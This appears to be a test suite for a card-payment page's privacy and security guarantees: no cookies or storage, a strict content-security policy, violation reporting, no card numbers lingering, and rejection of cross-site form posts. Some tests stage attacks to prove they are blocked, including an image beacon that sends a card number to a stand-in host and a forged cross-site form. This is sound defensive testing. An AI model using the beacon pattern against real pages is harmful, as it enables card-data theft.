// What the page asks for, keeps and gives away: as little as can be.
import assert from 'node:assert/strict';
import { test } from 'node:test';
import { eventually, suite, visa, withoutFunds } from './harness.mjs';
import { gzipSync } from 'node:zlib';
import { texts } from './texts.mjs';

suite('privacy', (town) => {
  test('the page is one request, sets no cookie and stores nothing', async () => {
    const customer = await town.customer();
    const answer = await customer.page.goto((await town.demo.createSession()).url);
    await customer.page.waitForLoadState('networkidle');
    assert.deepEqual(customer.requests.map((request) => request.url()).filter((url) => !url.startsWith('data:')), [answer.url()]);
    assert.equal(await answer.headerValue('set-cookie'), null);
    assert.deepEqual(await customer.cookies(), []);
    assert.equal(await answer.headerValue('cache-control'), 'no-store');
    assert.match(await answer.headerValue('content-security-policy'), /^default-src 'none';.*frame-ancestors 'none'/);
    const stored = await customer.page.evaluate(() => [localStorage.length, sessionStorage.length, history.state]);
    assert.deepEqual(stored, [0, 0, null]);
  });

  test('the page weighs little in every language, everything included', async () => {
    const customer = await town.customer();
    for (const locale of Object.keys(texts)) {
      const answer = await customer.page.goto((await town.demo.createSession({ locale })).url);
      const body = await answer.body();
      const compressed = gzipSync(body, { level: 9 }).length;
      assert.equal(await answer.headerValue('content-encoding'), null, 'served as it is: no length tells a secret');
      assert.ok(compressed < 25_000, `${locale}: ${compressed} bytes compressed`);
      assert.ok(body.length < 60_000, `${locale}: ${body.length} bytes`);
      console.log(`# ${locale}: ${body.length} bytes, ${compressed} compressed`);
    }
  });

  test('the privacy notice opens beside the page: the typed card stays, and nothing is told', async () => {
    const customer = await town.customer({ language: 'ar' });
    const notice = 'https://example.com/ar/privacy';
    await customer.page.context().route(notice, (route) => route.fulfill({ contentType: 'text/html', body: '<title>notice</title>' }));
    await customer.page.goto(`${town.demo.shopUrl}/gallery/form?locale=ar`);
    await customer.typeCard(visa);
    const { privacy, newTab } = customer.texts.frame;
    const opened = customer.page.context().waitForEvent('page');
    await customer.page.getByRole('link', { name: `${privacy} (${newTab})` }).click();
    const other = await opened;
    await other.waitForURL(notice);
    assert.deepEqual(await other.evaluate(() => [window.opener, document.referrer]), [null, '']);
    assert.deepEqual(await customer.typed(), { cardNumber: '4355 0930 0077 7068', expiry: '11/40', cvv: '313' });
    customer.forgive(/request to https:\/\/example\.com\/ar\/privacy/, { all: true });
  });

  test('the policy is enforced: a script from elsewhere does not run, and is told on', async () => {
    const customer = await town.customer();
    await customer.page.goto((await town.demo.createSession()).url);
    await customer.page.evaluate(() => {
      const script = document.createElement('script');
      document.body.append(script);
      try { script.textContent = 'window.ran = true'; } catch { /* trusted types */ }
      const image = new Image();
      image.src = 'https://elsewhere.example/?card';
    });
    await customer.forgiveEventually(/elsewhere\.example/);
    assert.equal(await customer.page.evaluate(() => window.ran), undefined);
    customer.forgive(/Content Security Policy|Trusted/, { all: true });
  });

  test('what the policy stopped is told to the shop, without the address', async () => {
    const customer = await town.customer();
    await customer.buy();
    await customer.page.evaluate(() => {
      new Image().src = 'https://elsewhere.example/?card=4355093000777068';
      try { document.body.setAttribute('onclick', 'window.ran = true'); } catch { /* trusted types */ }
    });
    await customer.forgiveEventually(/elsewhere\.example/);
    customer.forgive(/Content Security Policy|Trusted/, { all: true });
    const { conversationId } = customer.order;
    const order = await eventually(() => town.demo.order(conversationId), ({ violations }) => violations.length >= 2);
    assert.deepEqual(order.violations.toSorted(), ['img-src', 'require-trusted-types-for']);
    assert.equal(order.callback, null, 'the session goes on');
    await customer.pay(visa);
    await customer.seesReceipt();
  });

  for (const scripts of [true, false]) {
    test(`no document holds a card after it was sent, scripts ${scripts ? 'on' : 'off'}`, async () => {
      const customer = await town.customer({ scripts });
      await customer.buy();
      const documents = [];
      customer.page.on('response', (answer) => {
        if (answer.request().method() === 'POST') documents.push(answer.text().catch(() => ''));
      });
      const wrong = { ...visa, number: '4355093000777067', expiry: '01/26' };
      for (const card of scripts ? [withoutFunds] : [wrong, withoutFunds]) {
        await customer.pay(card);
        const { fieldsTitle, declinedTitle } = customer.texts.problem;
        await customer.seesAlert(card === wrong ? fieldsTitle : declinedTitle);
        for (const text of [await customer.page.content(), ...await Promise.all(documents)]) {
          assert.ok(!text.replace(/[\s-]/g, '').includes(card.number));
        }
      }
      assert.ok(documents.length > 0);
      await customer.pay(visa);
      await customer.seesReceipt();
      for (const request of customer.requests) assert.ok(!request.url().includes(visa.number));
      assert.ok(!(await customer.page.content()).includes(visa.number));
    });
  }

  test('another site cannot post to the page', async () => {
    const customer = await town.customer();
    const session = await town.demo.createSession();
    const elsewhere = `${town.demo.shopUrl}/elsewhere`;
    const body = `<form method="post" action="${session.url}" enctype="multipart/form-data"><button>go</button></form>`;
    await customer.page.route(elsewhere, (route) => route.fulfill({ contentType: 'text/html', body }));
    await customer.page.goto(elsewhere);
    await customer.page.getByRole('button').click();
    await customer.seesAlert(customer.texts.problem.staleTitle);
    assert.deepEqual(await town.demo.callsFor(session.conversationId), []);
  });
});
